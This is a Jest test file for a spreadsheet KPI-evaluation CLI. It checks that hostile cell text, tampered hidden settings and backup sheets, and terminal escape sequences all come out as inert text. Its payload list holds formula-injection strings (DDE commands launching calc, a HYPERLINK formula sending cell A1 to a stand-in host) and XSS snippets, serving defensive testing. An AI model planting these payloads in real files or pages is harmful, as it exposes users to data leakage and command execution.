import ExcelJS from 'exceljs';
import { execFileSync, spawnSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import * as path from 'node:path';
import { reportSchema } from '../../src/domain/report';
import { parseSettingsText } from '../../src/domain/settings';
import { loadXlsx } from '../../src/workbook/xlsx/workbookFile';
import { openXlsx, runCli, tempDir } from '../helpers/cli';
import { differences, userCells } from './cells';
import { readParts } from './zipTools';

// eslint-disable-next-line @typescript-eslint/no-require-imports
const { sakuTable } = require('../../scripts/build-sample.js') as {
  sakuTable: (ws: ExcelJS.Worksheet, top: number, spec: unknown) => number;
};

/** Formula and markup injections (OWASP "CSV injection", DDE) and their tab/CR-prefixed and full-width forms. */
export const PAYLOADS = [
  '=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '=1+1',
  '\t=1+1',
  '\r=2+2',
  '＝3+3',
  '=DDE("cmd";"/C calc";"x")',
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
];

/** Sheet names with quotes, ampersands, angle brackets, hashes and emoji (Excel forbids only : \ / ? * [ ]). */
const SHEETS = ["市民'意識\"調査📊", 'A&B <c> #1!'];

const dir = tempDir('shinchoku-hostile-');

/** Every `<f>` element of every sheet part of an .xlsx, by part: what Excel would actually calculate. */
function formulasInParts(file: string): Map<string, string[]> {
  const found = new Map<string, string[]>();
  for (const part of readParts(new Uint8Array(readFileSync(file)))) {
    if (!/^xl\/worksheets\/sheet\d+\.xml$/.test(part.name)) continue;
    const list = [...part.data.toString('utf8').matchAll(/<f(?:\s[^>]*)?>([^<]*)<\/f>/g)].map((m) => m[1]);
    if (list.length > 0) found.set(part.name, list);
  }
  return found;
}

function unescapeXml(s: string): string {
  return s.replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
}

async function hostileWorkbook(): Promise<string> {
  const wb = new ExcelJS.Workbook();
  const a = wb.addWorksheet(SHEETS[0]);
  sakuTable(a, 1, {
    years: ['R1（基準値）', 'R2', 'R3（目標値）'],
    kpis: PAYLOADS.map((name, i) => ({ name, unit: PAYLOADS[(i + 3) % PAYLOADS.length], benchmark: [null, 50, 60], actual: [40, 55 - i] })),
  });
  const b = wb.addWorksheet(SHEETS[1]);
  ['基本目標', '重要業績評価指標 (KPI)', '基準値', '目標値', '実績', '状況'].forEach((h, c) => (b.getCell(1, c + 1).value = h));
  PAYLOADS.forEach((p, i) => {
    b.getRow(i + 2).values = [p, `${p} の指標`, 10, 20, 12 + i, null];
  });
  const file = path.join(dir, 'hostile.xlsx');
  await wb.xlsx.writeFile(file);
  return file;
}

describe('hostile cell text is written as text everywhere (status cells, summary, backup, settings)', () => {
  let input: string;
  let out: string;
  let report: ReturnType<typeof reportSchema.parse>;

  beforeAll(async () => {
    input = await hostileWorkbook();
    out = path.join(dir, 'hostile.out.xlsx');
    const reportFile = path.join(dir, 'hostile.json');
    const r = await runCli(['evaluate', input, '--out', out, '--report', reportFile, '--notes']);
    expect(r.err).toEqual([]);
    expect(r.code).toBe(0);
    report = reportSchema.parse(JSON.parse(readFileSync(reportFile, 'utf8')));
  });

  it('detects and judges every hostile KPI on both sheets', () => {
    expect(report.kpis.filter((k) => k.sheet === SHEETS[0])).toHaveLength(PAYLOADS.length);
    expect(report.kpis.filter((k) => k.sheet === SHEETS[1])).toHaveLength(PAYLOADS.length);
  });

  it('the only formulas in the saved file are the summary’s own links, each to an existing sheet', async () => {
    const formulas = formulasInParts(out);
    expect(formulas.size).toBe(1);
    const [links] = [...formulas.values()];
    expect(links).toHaveLength(PAYLOADS.length * 2);
    for (const f of links.map(unescapeXml)) {
      const m = /^HYPERLINK\("#'((?:[^']|'')+)'!([A-Z]+\d+)","((?:[^"]|"")*)"\)$/.exec(f);
      expect(m).not.toBeNull();
      const sheet = (m as RegExpExecArray)[1].replace(/''/g, "'").replace(/""/g, '"');
      expect(SHEETS).toContain(sheet);
    }
  });

  it('the hostile names, units and groups are in the summary as plain text', async () => {
    const wb = await openXlsx(out);
    const texts = new Set<string>();
    wb.getWorksheet('KPI集計')?.eachRow((row) => row.eachCell((cell) => void (typeof cell.value === 'string' && texts.add(cell.value))));
    for (const p of ['=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")', "+cmd|' /C calc'!A0", '-2+3', '=1+1', '<img src=x onerror=alert(1)>']) {
      expect(texts).toContain(p);
      expect(texts).toContain(`${p} の指標`);
    }
  });

  it('the backup and settings sheets hold text only, and the settings parse', async () => {
    const loaded = await loadXlsx(ExcelJS, new Uint8Array(readFileSync(out)));
    expect(loaded.backupCells?.flat().every((v) => v === null || typeof v === 'string')).toBe(true);
    const { settings, problems } = parseSettingsText(loaded.settingsText);
    expect(problems).toEqual([]);
    expect(settings.summarySheetName).toBe('KPI集計');
  });

  it('restore gives the hostile input back cell for cell, formulas included', async () => {
    const restored = path.join(dir, 'hostile.restored.xlsx');
    expect((await runCli(['restore', out, '--out', restored])).code).toBe(0);
    expect(differences(userCells(await openXlsx(input)), userCells(await openXlsx(restored)))).toEqual([]);
    expect(formulasInParts(restored).size).toBe(0);
  });

  it('LibreOffice shows the payloads as text: nothing was calculated', () => {
    const soffice = spawnSync('sh', ['-c', 'command -v soffice'], { encoding: 'utf8' }).stdout.trim();
    if (!soffice) throw new Error('LibreOffice (soffice) is not installed: apt-get install -y libreoffice-calc');
    const lo = tempDir('shinchoku-hostile-lo-');
    execFileSync(
      soffice,
      [`-env:UserInstallation=file://${path.join(lo, 'profile')}`, '--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1', '--outdir', lo, out],
      { stdio: 'pipe', timeout: 120_000 },
    );
    const summary = readdirSync(lo).find((f) => f.endsWith('-KPI集計.csv'));
    expect(summary).toBeDefined();
    const csv = readFileSync(path.join(lo, summary as string), 'utf8');
    expect(csv).toContain('=1+1');
    expect(csv).toContain("+cmd|' /C calc'!A0");
    expect(csv).toContain('<img src=x onerror=alert(1)>');
    expect(csv).not.toMatch(/(^|,)(2|#NAME\?|Err:\d+)(,|$)/m);
  }, 180_000);
});

describe('tampered Shinchoku sheets', () => {
  async function withOwnSheets(settings: string[] | null, backup: string[][] | null): Promise<string> {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('基本目標1');
    sakuTable(ws, 1, { years: ['R1（基準値）', 'R2', 'R3（目標値）'], kpis: [{ name: '満足度', unit: '%', benchmark: [null, 50, 60], actual: [40, 55] }] });
    ws.getCell('J1').value = 'メモ';
    if (settings) {
      const s = wb.addWorksheet('_shinchoku_settings', { state: 'veryHidden' });
      settings.forEach((text, i) => (s.getCell(i + 1, 1).value = text));
    }
    if (backup) {
      const b = wb.addWorksheet('_shinchoku_backup', { state: 'hidden' });
      [['kind', 'sheet', 'ref', 'previous', 'previousNote'], ...backup].forEach((row, i) => (b.getRow(i + 1).values = row));
    }
    const file = path.join(dir, `tampered-${Math.random().toString(36).slice(2)}.xlsx`);
    await wb.xlsx.writeFile(file);
    return file;
  }

  async function evaluate(file: string): Promise<{ code: number; report: ReturnType<typeof reportSchema.parse>; out: string }> {
    const out = `${file}.out.xlsx`;
    const reportFile = `${file}.json`;
    const r = await runCli(['evaluate', file, '--out', out, '--report', reportFile]);
    return { code: r.code, report: reportSchema.parse(JSON.parse(readFileSync(reportFile, 'utf8'))), out };
  }

  it.each([
    ['not JSON', ['{"version":1, scheme:']],
    ['JSON of the wrong shape', ['[1,2,3]']],
    ['oversized (1.2 million characters)', Array.from({ length: 40 }, () => 'x'.repeat(30_000))],
    ['a formula-looking summary name and synonyms', [JSON.stringify({ version: 1, summarySheetName: 42, synonyms: { name: ['=cmd|x'] } })]],
  ])('settings %s: a warning in the report, the defaults used, a valid settings sheet written back', async (_label, settings) => {
    const { code, report, out } = await evaluate(await withOwnSheets(settings, null));
    expect(code).toBe(0);
    const warning = report.problems.find((p) => p.code === 'settings-invalid');
    expect(warning).toMatchObject({ sheet: '_shinchoku_settings', cell: 'A1' });
    const loaded = await loadXlsx(ExcelJS, new Uint8Array(readFileSync(out)));
    expect(parseSettingsText(loaded.settingsText).problems).toEqual([]);
  });

  it('settings whose JSON decodes to characters XML cannot hold (\\uffff, \\u0001): the output still opens, the settings survive', async () => {
    // eslint-disable-next-line no-control-regex -- the control character is the test
    const json = JSON.stringify({ version: 1, directionOverrides: { '\uffff\u0001\ud800': 'down' } }).replace(/[\uffff\u0001\ud800]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
    const { code, out } = await evaluate(await withOwnSheets([json], null));
    expect(code).toBe(0);
    const loaded = await loadXlsx(ExcelJS, new Uint8Array(readFileSync(out)));
    expect(parseSettingsText(loaded.settingsText).settings.directionOverrides).toEqual({ '\uffff\u0001\ud800': 'down' });
  });

  it('a backup holding formula text and a fake error value: restore puts back text, never a formula or a broken error cell', async () => {
    const file = await withOwnSheets(null, [
      ['cell', '基本目標1', 'D4', JSON.stringify("=HYPERLINK(\"http://example.invalid\",\"x\")"), 'null'],
      ['cell', '基本目標1', 'E4', JSON.stringify({ error: "=cmd|' /C calc'!A0" }), 'null'],
      ['cell', '基本目標1', 'G4', JSON.stringify({ error: '#N/A' }), '"=1+1\\uffff"'],
    ]);
    const restored = `${file}.restored.xlsx`;
    const r = await runCli(['restore', file, '--out', restored]);
    expect(r.code).toBe(0);
    expect(formulasInParts(restored).size).toBe(0);
    const ws = (await openXlsx(restored)).getWorksheet('基本目標1');
    expect(ws?.getCell('D4').value).toBe('=HYPERLINK("http://example.invalid","x")');
    expect(ws?.getCell('E4').value).toBe("=cmd|' /C calc'!A0");
    expect(ws?.getCell('G4').value).toEqual({ error: '#N/A' });
  });

  it('a backup claiming a user sheet was created by Shinchoku: restore keeps the sheet and says so', async () => {
    const file = await withOwnSheets(null, [['created', '基本目標1', '', '', '']]);
    const restored = `${file}.restored.xlsx`;
    const r = await runCli(['restore', file, '--out', restored]);
    expect(r.code).toBe(2);
    expect(r.err).toHaveLength(1);
    expect(r.err[0]).toContain('基本目標1');
    const wb = await openXlsx(restored);
    expect(wb.getWorksheet('基本目標1')?.getCell('J1').value).toBe('メモ');
  });
});

describe('the terminal gets no control characters from a workbook', () => {
  it('a KPI name with an ESC sequence and a file name with a newline print as harmless single lines', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('基本目標1');
    sakuTable(ws, 1, { years: ['R1（基準値）', 'R2', 'R3（目標値）'], kpis: [{ name: '\u001b]0;pwned\u0007\u001b[2J満足度', unit: '%', benchmark: [null, 50, 60], actual: [40, 55] }] });
    const file = path.join(dir, 'esc\nname.xlsx');
    await wb.xlsx.writeFile(file);
    const scan = await runCli(['scan', file]);
    // eslint-disable-next-line no-control-regex -- control characters are what must not be there
    expect(scan.out.join('\n')).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    const missing = await runCli(['evaluate', path.join(dir, 'no\u001b[31mfile\n.xlsx')]);
    expect(missing.err).toHaveLength(1);
    // eslint-disable-next-line no-control-regex -- control characters are what must not be there
    expect(missing.err[0]).not.toMatch(/[\u0000-\u001f\u007f]/);
  });
});
